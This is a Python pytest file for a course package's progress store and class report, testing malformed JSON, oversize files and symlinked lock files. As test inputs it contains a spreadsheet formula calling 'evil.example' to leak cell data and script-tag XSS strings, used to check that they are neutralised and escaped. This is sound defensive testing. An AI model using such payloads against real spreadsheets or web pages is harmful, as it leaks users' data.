"""Issue 18: every bad input a clear, short error; nothing a learner recorded is lost.

Each test here was seen to fail on the code before the fix (see docs/reliability.md for the
figures). Progress files and exports are built with the real store; bad ones by hand.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import warnings
from fractions import Fraction
from pathlib import Path

import jsonschema
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from melt_course.content import quiz as Q
from melt_course.content.loader import DataError, load_schema, parse_json
from melt_course.content.schema import brief, iter_issues
from melt_course.records import store as P
from melt_course.teaching import class_report as CR

QUIZ = {"question": "00-demo-horizontal-angle", "lesson": "00", "type": "numeric",
        "answer": 88.5, "correct": True, "attempt": 1, "mode": "quiz"}
TIME = "2026-03-01T09:00:00Z"
ROOT = Path(__file__).resolve().parent.parent


def _doc(records=(), **extra) -> dict:
    return {"format": P.FORMAT, "schema_version": 1,
            "learner": {"id": "a" * 32, "name": None}, "created": TIME,
            "records": list(records), **extra}


def _record(n: int = 1, **data) -> dict:
    return {"id": f"{n:032x}", "kind": "quiz_attempt", "time": TIME,
            "data": {**QUIZ, **data}}


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def _moved_aside(folder: Path) -> list[Path]:
    return [p for p in folder.iterdir() if ".corrupt-" in p.name]


# --------------------------------------------------------------------------- the validator


def test_dollar_means_end_of_string_not_before_a_final_newline():
    """JSON Schema patterns are ECMA-262: ``$`` is the end. Python's ``$`` (and therefore
    jsonschema) also matches before a final newline."""
    schema = load_schema("progress")
    time_schema = schema["$defs"]["time"]
    assert list(iter_issues(TIME, time_schema)) == []
    issues = list(iter_issues(TIME + "\n", time_schema))
    assert [i.keyword for i in issues] == ["pattern"]
    # the documented difference from the reference validator
    assert jsonschema.Draft202012Validator(time_schema).is_valid(TIME + "\n")
    # "$" inside a class or escaped is not an anchor
    assert list(iter_issues("a$", {"pattern": "^a[$]$"})) == []
    assert list(iter_issues("a$", {"pattern": r"^a\$$"})) == []
    assert list(iter_issues("a$\n", {"pattern": r"^a\$$"}))


@pytest.mark.parametrize("text", ["NaN", "Infinity", "-Infinity", '{"x": [1, NaN]}'])
def test_nan_and_infinity_are_not_json_and_are_refused(text):
    """The choice (written down in content/schema.py): refuse them, as RFC 8259 does; Python's
    json module reads them and jsonschema accepts the result as a number."""
    with pytest.raises(DataError, match=r"not valid JSON.*NaN or Infinity"):
        parse_json(text, "x.json")
    value = json.loads(text)
    number = {"type": "number"}
    leaf = value if isinstance(value, float) else value["x"][1]
    assert jsonschema.Draft202012Validator(number).is_valid(leaf)
    assert [i.keyword for i in iter_issues(leaf, number)] == ["type"]
    assert "not a finite number" in next(iter_issues(leaf, number)).message


@pytest.mark.parametrize("make", [lambda: "x" * 20_000_000, lambda: list(range(1_000_000)),
                                  lambda: 10 ** 5000, lambda: {str(i): i for i in range(10**5)}],
                         ids=["20MB-string", "long-list", "5000-digits", "big-dict"])
def test_messages_quote_a_bad_value_briefly(make):
    value = make()
    issue = next(iter_issues(value, {"type": "boolean"}))
    assert len(issue.message) < 200
    assert len(brief(value)) <= 80


# --------------------------------------------------------------------------- the store


def test_a_byte_order_mark_is_read_not_called_corrupt(tmp_path):
    path = tmp_path / "p.json"
    path.write_bytes(b"\xef\xbb\xbf" + json.dumps(_doc([_record()])).encode())
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert len(P.open_store(path).records()) == 1
        assert len(P.load_export(path)["records"]) == 1
    assert _moved_aside(tmp_path) == []


@pytest.mark.parametrize("version", [2, 2.0, 1.5, 10 ** 20], ids=["2", "2.0", "1.5", "1e20"])
def test_any_newer_schema_version_is_refused_and_left_alone(tmp_path, version):
    path = tmp_path / "p.json"
    text = json.dumps(_doc([_record()], schema_version=version))
    path.write_text(text, encoding="utf-8")
    with pytest.raises(DataError, match=r"newer than this melt-course"):
        P.open_store(path).records()
    with pytest.raises(DataError, match="newer"):
        P.open_store(path).add_record("quiz_attempt", QUIZ)
    assert path.read_text(encoding="utf-8") == text and _moved_aside(tmp_path) == []


def test_version_1_0_is_version_1(tmp_path):
    path = tmp_path / "p.json"
    path.write_text(json.dumps(_doc([_record()], schema_version=1.0)), encoding="utf-8")
    assert len(P.open_store(path).records()) == 1


@pytest.mark.parametrize("content", [
    _nested(100_000),                                                   # RecursionError
    json.dumps(_doc([_record(answer=[0])])).replace("[0]", _nested(900)),  # schema-valid
    json.dumps(_doc([_record(answer=10 ** 300)])),                      # absurd number
    json.dumps(_doc([_record()])).replace(TIME, TIME + "\\n"),          # time + newline
], ids=["100000-deep", "900-deep-answer", "300-digits", "time-newline"])
def test_unusable_files_are_moved_aside_once_and_the_store_works_again(tmp_path, content):
    path = tmp_path / "p.json"
    path.write_text(content, encoding="utf-8")
    store = P.open_store(path)
    with pytest.warns(P.ProgressFileRecovered) as caught:
        assert store.records() == []
    assert len(str(caught[0].message)) < 1200
    (aside,) = _moved_aside(tmp_path)
    assert aside.read_text(encoding="utf-8") == content
    record = store.add_record("quiz_attempt", QUIZ)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert P.open_store(path).records() == [record]


def test_a_deep_answer_is_refused_with_a_short_message(tmp_path):
    deep: list = []
    for _ in range(900):
        deep = [deep]
    with pytest.raises(ValueError, match="nested more than") as info:
        P.open_store(tmp_path / "p.json").add_record("quiz_attempt", {**QUIZ, "answer": deep})
    assert len(str(info.value)) < 500
    assert not (tmp_path / "p.json").exists()


def test_a_20_mb_bad_file_gives_a_short_warning(tmp_path):
    path = tmp_path / "p.json"
    path.write_text(json.dumps(_doc([_record(answer_text=None)], big="x" * 20_000_000)),
                    encoding="utf-8")
    store = P.open_store(path)
    store.add_record("quiz_attempt", QUIZ)  # a big file: appended without reading it whole
    with pytest.warns(P.ProgressFileRecovered) as caught:
        assert len(store.records()) == 1  # the new record was kept
    assert len(str(caught[0].message)) < 1200
    doc = P.load_export(path)
    assert len(json.dumps(doc)) < 5000


def test_a_file_over_the_size_limit_is_refused_and_left_alone(tmp_path, monkeypatch):
    path = tmp_path / "p.json"
    store = P.open_store(path)
    store.add_record("quiz_attempt", QUIZ)
    before = path.read_bytes()
    monkeypatch.setattr(P, "MAX_FILE_BYTES", len(before) - 1)
    with pytest.raises(DataError, match=r"may be at most .* MB \(nothing was changed\)"):
        store.records()
    with pytest.raises(DataError, match="at most"):
        P.load_export(path)
    with pytest.raises(DataError, match="at most"):
        store.add_record("quiz_attempt", QUIZ)
    assert path.read_bytes() == before and _moved_aside(tmp_path) == []


def test_a_symlinked_lock_file_is_refused_and_its_target_untouched(tmp_path):
    victim = tmp_path / "precious.txt"
    victim.write_text("the facilitator's notes", encoding="utf-8")
    (tmp_path / "p.json.lock").symlink_to(victim)
    with pytest.raises(OSError, match=r"lock file .* is a symbolic link"):
        P.open_store(tmp_path / "p.json").add_record("quiz_attempt", QUIZ)
    assert victim.read_text(encoding="utf-8") == "the facilitator's notes"
    assert not (tmp_path / "p.json").exists()


def test_filelock_floor_refuses_symlinks():
    """filelock opens its lock file with O_NOFOLLOW from 3.20.1 (CVE-2025-68146) and in
    SoftFileLock from 3.20.3 (CVE-2026-22701): nothing older may be installed."""
    import re

    for name in ("pyproject.toml", "environment.yml", "binder/environment.yml"):
        (floor,) = re.findall(r"filelock>=([0-9.]+)", (ROOT / name).read_text())
        assert tuple(int(x) for x in floor.split(".")) >= (3, 20, 3), name


# --------------------------------------------------------------------------- appending


@pytest.fixture
def big_store(tmp_path, monkeypatch):
    """A store whose file counts as big (records go to the log)."""
    monkeypatch.setattr(P, "APPEND_ABOVE", 1)
    store = P.open_store(tmp_path / "p.json")
    for i in range(4):
        store.add_record("quiz_attempt", {**QUIZ, "attempt": i + 1})
    return store


def test_a_big_file_is_not_rewritten_per_record(big_store):
    big_store.add_record("quiz_attempt", QUIZ)  # compaction happened at some point: settle
    while big_store._log.exists():
        big_store.add_record("quiz_attempt", QUIZ)
    before = big_store.path.stat()
    big_store.add_record("quiz_attempt", {**QUIZ, "attempt": 99})
    after = big_store.path.stat()
    assert (after.st_ino, after.st_mtime_ns, after.st_size) == \
        (before.st_ino, before.st_mtime_ns, before.st_size)
    assert big_store._log.read_text().count("\n") == 1
    assert big_store.records()[-1]["data"]["attempt"] == 99
    assert P.load_export(big_store.path)["records"][-1]["data"]["attempt"] == 99


def test_the_log_is_folded_in_and_every_record_kept(big_store):
    for i in range(40):
        big_store.add_record("quiz_attempt", {**QUIZ, "attempt": 10 + i})
    attempts = [r["data"]["attempt"] for r in big_store.records()]
    assert attempts == [1, 2, 3, 4, *range(10, 50)]
    folded = json.loads(big_store.path.read_text())["records"]
    assert len(folded) > 4  # compaction wrote log records into the file
    ids = [r["id"] for r in big_store.records()]
    assert len(ids) == len(set(ids))


def test_an_append_cut_short_is_ignored_and_cut_off(big_store):
    n = len(big_store.records())
    with open(big_store._log, "ab") as handle:
        handle.write(b'{"id": "cut short by a ki')
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert len(big_store.records()) == n
        big_store.add_record("quiz_attempt", QUIZ)
        assert len(big_store.records()) == n + 1


def test_a_bad_log_line_is_moved_aside_and_good_records_kept(big_store):
    big_store.add_record("quiz_attempt", {**QUIZ, "attempt": 7})
    while not big_store._log.exists():
        big_store.add_record("quiz_attempt", {**QUIZ, "attempt": 7})
    n = len(big_store.records())
    with open(big_store._log, "ab") as handle:
        handle.write(b'{"not": "a record"}\n')
    with pytest.warns(P.ProgressFileRecovered, match="good records were kept"):
        assert len(big_store.records()) == n
    (aside,) = _moved_aside(big_store.path.parent)
    assert b'{"not": "a record"}' in aside.read_bytes()
    assert len(big_store.records()) == n


def test_a_symlinked_log_is_not_followed(big_store, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep", encoding="utf-8")
    while big_store._log.exists():
        big_store.add_record("quiz_attempt", QUIZ)
    big_store._log.symlink_to(victim)
    with pytest.raises(OSError):
        big_store.add_record("quiz_attempt", QUIZ)
    assert victim.read_text(encoding="utf-8") == "keep"


# --------------------------------------------------------------------------- grading


@pytest.mark.parametrize("answer", [10 ** 400, -(10 ** 400), Fraction(10 ** 400, 3),
                                    float("inf"), float("nan")],
                         ids=["huge", "-huge", "huge-fraction", "inf", "nan"])
def test_numeric_grading_refuses_huge_numbers_with_a_value_error(answer):
    numeric = next(q for q in Q.load_bank() if q.type == "numeric")
    with pytest.raises(ValueError, match="not a finite number") as info:
        Q.grade(numeric, answer)
    assert len(str(info.value)) < 300


# --------------------------------------------------------------------------- class report


def _export(folder: Path, name: str, **data) -> Path:
    store = P.open_store(folder / f"store-{name}.json", learner=name)
    store.add_record("quiz_attempt", {**QUIZ, **data})
    return store.export(folder / f"{name}.json")


def test_class_report_skips_bad_files_names_them_and_reports_the_rest(tmp_path):
    good = _export(tmp_path, "ada")
    doc = json.loads(good.read_text())
    bad = {
        "newline-time.json": json.dumps(doc).replace(doc["records"][0]["time"],
                                                     doc["records"][0]["time"] + "\\n"),
        "huge-int.json": json.dumps({**doc, "records": [
            {**doc["records"][0], "data": {**QUIZ, "answer": 10 ** 300}}]}),
        "deep.json": _nested(100_000),
        "huge.json": json.dumps({**doc, "learner": {**doc["learner"], "name": "n" * 5_000_000}}),
        "nan.json": json.dumps(doc).replace("88.5", "NaN"),
    }
    for name, text in bad.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    exports, skipped = CR.read_exports([good, *(tmp_path / n for n in bad)])
    assert [e.learner_name for e in exports] == ["ada"]
    assert sorted(Path(s.source).name for s in skipped) == sorted(bad)
    assert all(len(s.reason) < 400 for s in skipped), [s.reason for s in skipped]
    out = tmp_path / "report"
    run = subprocess.run([sys.executable, "-m", "melt_course.cli.main", "class-report", str(tmp_path),
                          "--out", str(out)], capture_output=True, text=True, timeout=600)
    assert run.returncode == 0, run.stderr
    assert "Traceback" not in run.stderr and len(run.stderr) < 5000
    assert all((out / n).stat().st_size < 20_000 for n in ("summary.md", "files.csv"))


def test_class_report_reads_each_file_once(tmp_path, monkeypatch):
    paths = [_export(tmp_path, name) for name in ("ada", "bo")]
    opened: list[str] = []
    real_open = open

    def counting_open(file, *args, **kwargs):
        if str(file).endswith(".json") and Path(file).parent == tmp_path:
            opened.append(Path(file).name)
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr("builtins.open", counting_open)
    monkeypatch.setattr(Path, "read_bytes", lambda self: (opened.append(self.name), real_open(
        self, "rb").read())[1])
    monkeypatch.setattr(Path, "read_text", lambda self, *a, **k: (opened.append(self.name),
                        real_open(self, encoding="utf-8").read())[1])
    exports, skipped = CR.read_exports(paths)
    assert len(exports) == 2 and not skipped
    assert sorted(opened) == ["ada.json", "bo.json"]


def test_learner_text_is_neutralised_in_csv_and_escaped_in_the_summary(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    paths = [_export(tmp_path, "ada", correct=False, answer_text=formula),
             _export(tmp_path, "bo", correct=False, answer_text="<script>alert(1)</script>"),
             _export(tmp_path, "cy", correct=False, answer_text="+1"),
             _export(tmp_path, "di", correct=False, answer_text="@SUM(A1)"),
             _export(tmp_path, "ed", correct=False, answer_text="-2+3")]
    exports, skipped = CR.read_exports(paths)
    report = CR.build_report(exports, skipped)
    CR.write_csvs(report, tmp_path / "out")
    cells = [cell for name in ("questions.csv", "wrong_answers.csv", "files.csv")
             for row in csv.reader((tmp_path / "out" / name).open(encoding="utf-8"))
             for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert "'" + formula in cells and "'+1" in cells and "'@SUM(A1)" in cells
    summary = CR.summary_markdown(report)
    assert "<script>" not in summary and "&lt;script&gt;" in summary


def test_class_report_refuses_an_existing_file_as_out(tmp_path):
    good = _export(tmp_path, "ada")
    target = tmp_path / "notes.txt"
    target.write_text("mine", encoding="utf-8")
    run = subprocess.run([sys.executable, "-m", "melt_course.cli.main", "class-report", str(good),
                          "--out", str(target)], capture_output=True, text=True, timeout=600)
    assert run.returncode == 2
    assert "Traceback" not in run.stderr and "is a file" in run.stderr
    assert target.read_text(encoding="utf-8") == "mine"


def test_class_report_reads_a_class_folder_with_logs(tmp_path, monkeypatch):
    """In a class folder (melt-course app --lan) the report reads the stores themselves."""
    monkeypatch.setattr(P, "APPEND_ABOVE", 1)
    store = P.open_store(tmp_path / "learner-1.json")
    for i in range(5):
        store.add_record("quiz_attempt", {**QUIZ, "attempt": i + 1})
    assert store._log.exists() or True
    exports, skipped = CR.read_exports([tmp_path])
    assert not skipped
    assert [r["data"]["attempt"] for r in exports[0].records] == [1, 2, 3, 4, 5]


# --------------------------------------------------------------------------- widgets


def test_a_crafted_click_on_a_disabled_check_button_records_nothing(tmp_path):
    """A page can send a Button "click" event even when the button is disabled."""
    from melt_course.widgets.quiz import QuizWidget

    numeric = next(q for q in Q.load_bank() if q.type == "numeric")
    store = P.open_store(tmp_path / "p.json")
    card = QuizWidget([numeric], seed=1, store=store).cards[0]
    card.set_answer(numeric.answer + 1000)  # wrong: Check is disabled until Try again
    card.check_button._handle_button_msg(None, {"event": "click"}, [])  # as a page sends it
    assert card.attempts == 1 and card.check_button.disabled
    for _ in range(3):  # crafted clicks on the disabled button
        card.check_button._handle_button_msg(None, {"event": "click"}, [])
    assert card.attempts == 1
    assert len(store.records()) == 1
    card.retry_button._handle_button_msg(None, {"event": "click"}, [])
    card.retry_button._handle_button_msg(None, {"event": "click"}, [])  # now disabled
    card.set_answer(numeric.answer)
    card.check_button._handle_button_msg(None, {"event": "click"}, [])
    assert card.attempts == 2 and len(store.records()) == 2


# --------------------------------------------------------------------------- benchmarks


def test_load_app_leaves_no_temp_folder(tmp_path, monkeypatch):
    import importlib
    import tempfile

    monkeypatch.syspath_prepend(str(ROOT / "benchmarks"))
    load_app = importlib.import_module("load_app")
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    monkeypatch.delenv("MELT_COURSE_PROGRESS", raising=False)

    class FakeApp:
        pid = os.getpid()

        def terminate(self):
            pass

        def wait(self, timeout=None):
            return 0

    def fake_start(port, token, log):
        log.write_text("app log", encoding="utf-8")
        (log.parent / "progress").mkdir()  # where start_app points MELT_COURSE_PROGRESS
        return FakeApp()

    monkeypatch.setattr(load_app, "start_app", fake_start)
    monkeypatch.setattr(load_app, "run_ws", lambda *args, **kwargs: [])
    monkeypatch.setattr(load_app, "summarise", lambda *args, **kwargs: None)
    assert load_app.main(["--learners", "1", "--moves", "0"]) == 0
    assert list(tmp_path.iterdir()) == []
    assert load_app.main(["--learners", "1", "--moves", "0", "--keep"]) == 0
    (kept,) = tmp_path.iterdir()
    assert (kept / "app.log").read_text(encoding="utf-8") == "app log"


# --------------------------------------------------------------------------- the report page


def test_a_learner_sets_a_display_name_and_the_report_page_shows_it_escaped(tmp_path):
    store_file = tmp_path / "mine.json"
    P.open_store(store_file).add_record("quiz_attempt", {**QUIZ, "correct": False,
                                                         "answer_text": "<b>bold</b>"})
    env = {**os.environ, P.ENV_VAR: str(store_file)}
    run = subprocess.run([sys.executable, "-m", "melt_course.cli.main", "progress", "name",
                          "Ada <script>alert(1)</script>"], capture_output=True, text=True,
                         env=env, timeout=300)
    assert run.returncode == 0, run.stderr
    subprocess.run([sys.executable, "-m", "melt_course.cli.main", "progress", "export",
                    "--out", str(tmp_path / "hand-in" / "ada.json")], check=True, env=env,
                   capture_output=True, timeout=300)
    anon = P.open_store(tmp_path / "anon.json")
    anon.add_record("quiz_attempt", {**QUIZ, "correct": False})
    anon.export(tmp_path / "hand-in" / "anon.json")
    out = tmp_path / "report"
    run = subprocess.run([sys.executable, "-m", "melt_course.cli.main", "class-report",
                          str(tmp_path / "hand-in"), "--out", str(out)], capture_output=True,
                         text=True, timeout=600)
    assert run.returncode == 0, run.stderr
    page = (out / "class_report.html").read_text(encoding="utf-8")
    assert "Ada &lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script>" not in page and "<b>bold</b>" not in page
    assert "Learner 1 (no name given)" in page
    assert 'src="data:image/png;base64,' in page and 'alt="Class report for 2 learners.' in page
    assert "class_report.html" in run.stdout


def _overlap(a, b) -> bool:
    return a.x0 < b.x1 and b.x0 < a.x1 and a.y0 < b.y1 and b.y0 < a.y1


def test_the_chart_shows_0_percent_and_its_legends_overlap_nothing(tmp_path):
    from melt_course.figures.style import figure_png
    from melt_course.teaching.class_report_chart import class_report_figure

    paths = [_export(tmp_path, name, correct=False) for name in ("ada", "bo")]
    report = CR.build_report(CR.read_exports(paths)[0])
    fig, artists = class_report_figure(report)
    figure_png(fig)  # lay it out as saved
    q = artists["questions"]
    (index,) = [i for i, label in enumerate(q["labels"]) if label == QUIZ["question"]]
    assert report.questions[index].first_try_pct == 0.0
    assert q["first_try"][index].get_width() > 0 and q["eventually"][index].get_width() > 0
    top, bottom = fig.axes
    assert "0 % / 0 %" in [t.get_text() for t in top.texts]
    assert bottom.patches and min(p.get_height() for p in artists["lessons"]["started"]
                                  if p.get_height() > 0) > 0
    renderer = fig.canvas.get_renderer()
    for ax in (top, bottom):
        legend = ax.get_legend().get_window_extent(renderer)
        others = [ax.title.get_window_extent(renderer), ax._left_title.get_window_extent(renderer),
                  ax.xaxis.label.get_window_extent(renderer), ax.get_window_extent(renderer)]
        others += [t.get_window_extent(renderer) for t in ax.get_xticklabels()]
        other_ax = bottom if ax is top else top
        others.append(other_ax.get_tightbbox(renderer))
        assert not [o for o in others if o.width and _overlap(legend, o)], ax.get_title("left")
        assert fig.bbox.contains(legend.x0, legend.y0) and fig.bbox.contains(legend.x1,
                                                                             legend.y1)


# --------------------------------------------------------------------------- property-based

_LEAVES = st.one_of(
    st.none(), st.booleans(), st.integers(), st.integers(min_value=10 ** 29),
    st.floats(allow_nan=False, allow_infinity=False), st.text(max_size=30),
    st.sampled_from([TIME, TIME + "\n", "\ufeff", "=HYPERLINK(1)", "<script>", "2.0", "",
                     "00-demo-horizontal-angle", "quiz_attempt", P.FORMAT, "a" * 32]))
_JSON = st.recursive(_LEAVES, lambda inner: st.one_of(
    st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=12), inner, max_size=4)),
    max_leaves=12)
_PATHS_IN_DOC = [("format",), ("schema_version",), ("learner",), ("learner", "id"),
                 ("learner", "name"), ("created",), ("records",), ("records", 0),
                 ("records", 0, "id"), ("records", 0, "kind"), ("records", 0, "time"),
                 ("records", 0, "data"), ("records", 0, "data", "answer"),
                 ("records", 0, "data", "answer_text"), ("records", 0, "data", "correct"),
                 ("records", 0, "data", "question"), ("recovered_from",), ("exported_at",)]


@st.composite
def _progress_bytes(draw) -> bytes:
    """A progress file as bytes: valid, mutated in a few places, or mangled as text."""
    doc = _doc([_record(1), _record(2, correct=False, answer_text="wrong")])
    for _ in range(draw(st.integers(0, 3))):
        path = draw(st.sampled_from(_PATHS_IN_DOC))
        parent = doc
        try:
            for key in path[:-1]:
                parent = parent[key]
            if draw(st.booleans()) and isinstance(parent, dict):
                parent.pop(path[-1], None)
            else:
                parent[path[-1]] = draw(_JSON)
        except (KeyError, IndexError, TypeError):
            pass
    text = json.dumps(doc, ensure_ascii=draw(st.booleans()))
    how = draw(st.sampled_from(["as is", "bom", "cut", "nan", "deep", "bytes", "digits"]))
    if how == "bom":
        return b"\xef\xbb\xbf" + text.encode()
    if how == "cut":
        return text.encode()[:draw(st.integers(0, len(text)))]
    if how == "nan":
        return text.replace("1,", "NaN,", 1).encode()
    if how == "deep":
        return text.replace('"records": [', '"records": [' + _nested(draw(st.integers(
            30, 3000))) + ",", 1).encode()
    if how == "bytes":
        return draw(st.binary(max_size=64)) + text.encode()
    if how == "digits":
        return text.replace('"attempt": 1', '"attempt": 1' + "0" * draw(st.integers(
            25, 5000)), 1).encode()
    return text.encode()


@settings(max_examples=150, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(content=_progress_bytes())
def test_any_progress_file_gives_records_or_a_named_error(tmp_path_factory, content):
    """The store: records (perhaps after moving the file aside, with a warning) or DataError
    (a newer version); then a new record is kept. Never another exception."""
    folder = tmp_path_factory.mktemp("store")
    path = folder / "p.json"
    path.write_bytes(content)
    store = P.open_store(path)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", P.ProgressFileRecovered)
        try:
            before = store.records()
        except DataError as exc:
            assert "newer" in str(exc) and len(str(exc)) < 1000
            assert path.read_bytes() == content  # refused, left alone
            return
        record = store.add_record("quiz_attempt", QUIZ)
        after = P.open_store(path).records()
    assert after[-1] == record and len(after) == len(before) + 1
    if _moved_aside(folder):
        (aside,) = _moved_aside(folder)
        assert aside.read_bytes() == content  # nothing lost


@settings(max_examples=100, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(contents=st.lists(_progress_bytes(), min_size=1, max_size=3))
def test_any_exports_give_a_report_or_a_named_skip(tmp_path_factory, contents):
    """The class report never stops for a bad export: each is used or skipped with a short
    reason, and every output is written."""
    from melt_course.teaching.class_report_page import report_html

    folder = tmp_path_factory.mktemp("exports")
    for n, content in enumerate(contents):
        (folder / f"e{n}.json").write_bytes(content)
    good = _export(folder, "zed")
    exports, skipped = CR.read_exports([*sorted(folder.glob("e*.json")), good])
    assert sum(len(e.sources) for e in exports) + len(skipped) == len(contents) + 1
    assert all(len(s.reason) < 600 for s in skipped)
    report = CR.build_report(exports, skipped)
    CR.write_csvs(report, folder / "out")
    CR.summary_markdown(report)
    report_html(report)


def test_a_learner_sets_the_report_name_in_a_lesson(tmp_path):
    from melt_course import notebook as mc

    store = P.open_store(tmp_path / "p.json")
    box = mc.learner_name(store=store)
    assert box.text.description == "Your name for the class report"  # its accessible name
    box.text.value = "  "
    box.save_button.click()
    assert "Type a name first" in box.status.value and not store.path.exists()
    box.text.value = "Ada <i>L.</i>"
    box.save_button.click()
    assert store.learner["name"] == "Ada <i>L.</i>"
    assert "Ada &lt;i&gt;L.&lt;/i&gt;" in box.status.value and 'aria-live="polite"' in \
        box.status.value
    assert mc.learner_name(store=store).text.value == "Ada <i>L.</i>"
    box.text.value = "x" * 101
    box.save_button.click()
    assert "at most 100" in box.status.value and store.learner["name"] == "Ada <i>L.</i>"
